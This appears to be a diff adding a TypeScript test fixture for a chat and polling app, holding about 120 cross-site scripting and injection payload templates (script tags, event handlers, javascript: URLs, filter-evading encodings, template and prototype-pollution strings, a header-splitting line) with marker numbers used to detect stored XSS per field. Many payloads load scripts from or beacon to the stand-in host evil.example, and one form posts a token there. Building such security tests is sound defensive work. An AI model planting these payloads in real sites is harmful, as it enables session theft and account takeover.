@@ -1,0 +1,185 @@
+/**
+ * 120 texts that some page somewhere took for more than text. In each, `{}` is where the number goes by which a text is found again: as the argument
+ * of what would run, or in the address that would be asked. None is longer than 190 characters, so that every field holds it.
+ */
+const templates = [
+  // Elements that run by themselves.
+  '<script>pwn({})</script>',
+  '<SCRIPT SRC=https://evil.example/{}.js></SCRIPT>',
+  '<script type=module>import("https://evil.example/{}.mjs")</script>',
+  '<script\n>pwn({})</script\n>',
+  '<scr<script>ipt>pwn({})</scr</script>ipt>',
+  '<img src=x onerror=pwn({})>',
+  '<img src="https://evil.example/{}.png">',
+  '<img srcset="https://evil.example/{}.png 1x">',
+  '<img/src=`x`/onerror=pwn({})>',
+  '<image href=x onerror=pwn({})>',
+  '<svg onload=pwn({})>',
+  '<svg><script>pwn({})</script></svg>',
+  '<svg><animate onbegin=pwn({}) attributeName=x dur=1s>',
+  '<svg><use href="https://evil.example/{}.svg#x"/></svg>',
+  '<svg><image href="https://evil.example/{}.png"/></svg>',
+  '<svg><foreignObject><img src=x onerror=pwn({})></foreignObject></svg>',
+  '<svg><a href="javascript:pwn({})"><text y=20>here</text></a></svg>',
+  '<svg><set attributeName=href to=javascript:pwn({})>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=pwn({})>',
+  '<math href="javascript:pwn({})">here</math>',
+  '<iframe src="javascript:pwn({})"></iframe>',
+  '<iframe srcdoc="<script>parent.pwn({})</script>"></iframe>',
+  '<iframe src="https://evil.example/{}"></iframe>',
+  '<frameset onload=pwn({})>',
+  '<object data="https://evil.example/{}"></object>',
+  '<object data="data:text/html,<script>pwn({})</script>"></object>',
+  '<embed src="https://evil.example/{}.swf">',
+  '<embed src="javascript:pwn({})">',
+  '<applet code="https://evil.example/{}.class"></applet>',
+  '<portal src="https://evil.example/{}"></portal>',
+  '<video src="https://evil.example/{}.mp4" autoplay></video>',
+  '<video poster="https://evil.example/{}.png"></video>',
+  '<video><source onerror=pwn({})></video>',
+  '<audio src=x onerror=pwn({})>',
+  '<audio src="https://evil.example/{}.mp3" preload=auto>',
+  '<track src="https://evil.example/{}.vtt" default>',
+  '<link rel=stylesheet href="https://evil.example/{}.css">',
+  '<link rel=prefetch href="https://evil.example/{}">',
+  '<link rel=dns-prefetch href="//evil{}.example">',
+  '<link rel=icon href="https://evil.example/{}.ico">',
+  '<link rel=manifest href="https://evil.example/{}.json">',
+  '<meta http-equiv=refresh content="0;url=https://evil.example/{}">',
+  '<meta http-equiv=refresh content="0;url=javascript:pwn({})">',
+  '<base href="https://evil.example/{}/">',
+  '<style>@import "https://evil.example/{}.css";</style>',
+  '<style>*{background:url(https://evil.example/{}.png)}</style>',
+  '<style>@keyframes x{}</style><b style="animation:x" onanimationstart=pwn({})>',
+  '<b style="background:url(https://evil.example/{}.png)">here</b>',
+  '<div style="position:fixed;inset:0;background:red">{}</div>',
+  // Elements that wait for somebody.
+  '<body onload=pwn({})>',
+  '<input autofocus onfocus=pwn({})>',
+  '<select autofocus onfocus=pwn({})>',
+  '<textarea autofocus onfocus=pwn({})>',
+  '<button autofocus onfocus=pwn({})>here</button>',
+  '<details open ontoggle=pwn({})>',
+  '<marquee onstart=pwn({})>here</marquee>',
+  '<b onmouseover=pwn({}) onpointerenter=pwn({})>here</b>',
+  '<b contenteditable onbeforeinput=pwn({})>here</b>',
+  '<a href="javascript:pwn({})">here</a>',
+  '<a href="java&#x09;script:pwn({})">here</a>',
+  '<a href="data:text/html,<script>opener.pwn({})</script>">here</a>',
+  '<a href="https://evil.example/{}" ping="https://evil.example/{}">here</a>',
+  '<form action="https://evil.example/{}"><input name=token><button>Sign in</button></form>',
+  '<form id=x></form><button form=x formaction="javascript:pwn({})">here</button>',
+  '<isindex action="javascript:pwn({})">',
+  '<x id=x tabindex=1 onfocusin=pwn({})></x>',
+  '<dialog open onclose=pwn({})>{}</dialog>',
+  '<b popover id=p onbeforetoggle=pwn({})>{}</b>',
+  // Ways out of where the text stands.
+  '"><script>pwn({})</script>',
+  "'><script>pwn({})</script>",
+  '" onmouseover="pwn({})" x="',
+  "' onfocus='pwn({})' autofocus='",
+  '` onerror=pwn({}) `',
+  '"/><img src=x onerror=pwn({})>',
+  '</textarea><script>pwn({})</script>',
+  '</title><script>pwn({})</script>',
+  '</style><script>pwn({})</script>',
+  '</script><script>pwn({})</script>',
+  '</noscript><img src=x onerror=pwn({})>',
+  '</select></option><img src=x onerror=pwn({})>',
+  '--><script>pwn({})</script><!--',
+  ']]><script>pwn({})</script>',
+  '*/pwn({})/*',
+  "';pwn({});//",
+  '";pwn({});//',
+  '\\";pwn({});//',
+  '\u2028pwn({})\u2028',
+  '%0d%0aSet-Cookie:%20x={}',
+  '{}\r\nContent-Type: text/html\r\n\r\n<script>pwn({})</script>',
+  // Forms of the same that slip through filters.
+  '&lt;script&gt;pwn({})&lt;/script&gt;',
+  '&#60;script&#62;pwn({})&#60;/script&#62;',
+  '\\u003cscript\\u003epwn({})\\u003c/script\\u003e',
+  '%3Cscript%3Epwn({})%3C/script%3E',
+  '\uFF1Cscript\uFF1Epwn({})\uFF1C/script\uFF1E',
+  '+ADw-script+AD4-pwn({})+ADw-/script+AD4-',
+  '<\u200Bscript>pwn({})</script>',
+  '<ſcript>pwn({})</ſcript>',
+  '<noscript><p title="</noscript><img src=x onerror=pwn({})>">',
+  '<xmp><p title="</xmp><img src=x onerror=pwn({})>">',
+  '<template><img src=x onerror=pwn({})></template>',
+  '<svg><style><!--</style><img src=x onerror=pwn({})>--></style>',
+  '<a id=x name=cookie href="{}"></a><form id=getElementById>',
+  // What frameworks and templates run.
+  '{{constructor.constructor("pwn({})")()}}',
+  '${pwn({})}',
+  '#{pwn({})}',
+  '<%= pwn({}) %>',
+  '{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"pwn({})"}}}',
+  '{"__proto__":{"innerHTML":"<img src=x onerror=pwn({})>"}}',
+  '__proto__ constructor toString {}',
+  '[here](javascript:pwn({}))',
+  '![here](https://evil.example/{}.png)',
+  // Addresses.
+  'javascript:pwn({})',
+  'JaVaScRiPt:pwn({})',
+  '\u0001javascript:pwn({})',
+  'data:text/html,<script>opener.pwn({})</script>',
+  'vbscript:pwn({})',
+  '//evil.example/{}',
+  'https://evil.example/{}.png',
+  'https://roomkeeper.example@evil.example/{}?"onmouseover=pwn({})',
+  'blob:https://evil.example/{}',
+]
+
+export const payloadCount = templates.length
+
+const found = /8[1-9]\d{5}/g
+
+/** The number of a text in a field: what was drawn or run is known by it. @param field 0 to 89 */
+const markOf = (field: number, index: number) => 8_100_000 + field * 1000 + index
+
+export const payload = (field: number, index: number): string => templates[index]!.replaceAll('{}', String(markOf(field, index)))
+
+/** The marks of some fields, for all texts. */
+export const marksOf = (fields: readonly number[], indices: readonly number[] = templates.map((_, index) => index)): Set<string> =>
+  new Set(fields.flatMap((field) => indices.map((index) => String(markOf(field, index)))))
+
+export const marksIn = (text: string): string[] => text.match(found) ?? []
+
+/** Of each kind of thing the numbers of its fields. */
+export const fields = {
+  message: { text: 0, username: 1, image: 2 },
+  poll: { question: 3, answer1: 4, answer2: 5, answer3: 6, answer4: 7 },
+  pollBeyond: { status: 8, createDate: 9, lastSentDate: 10, publishedDate: 11 },
+  chat: {
+    name: 12,
+    registerTermsTitle: 13,
+    filterWords: 14,
+    offlineMessage: 15,
+    offlineMessageEmail: 16,
+    groupChatWelcomeMessage: 17,
+    privateChatWelcomeMessage: 18,
+  },
+  chatBeyond: { hash: 19, lastUsed: 20, langId: 21 },
+  account: {
+    email: 22,
+    name: 23,
+    company: 24,
+    paymentEmail: 25,
+    currency: 26,
+    address: 27,
+    city: 28,
+    state: 29,
+    unit: 30,
+    zipCode: 31,
+    reservedName: 32,
+  },
+  social: { networkOneLink: 33, networkTwoName: 34 },
+  ban: { firstIp: 35, lastIp: 36 },
+  kept: { note: 37, room: 38, subject: 39, before: 40, after: 41, said: 42, round: 43, roundAnswer: 44, template: 45, templateAnswer: 46 },
+  refusal: 47,
+  typed: 48,
+} as const
+
+export const texts = <Name extends string>(numbers: Record<Name, number>, index: number) =>
+  Object.fromEntries(Object.entries<number>(numbers).map(([name, field]) => [name, payload(field, index)])) as Record<Name, string>
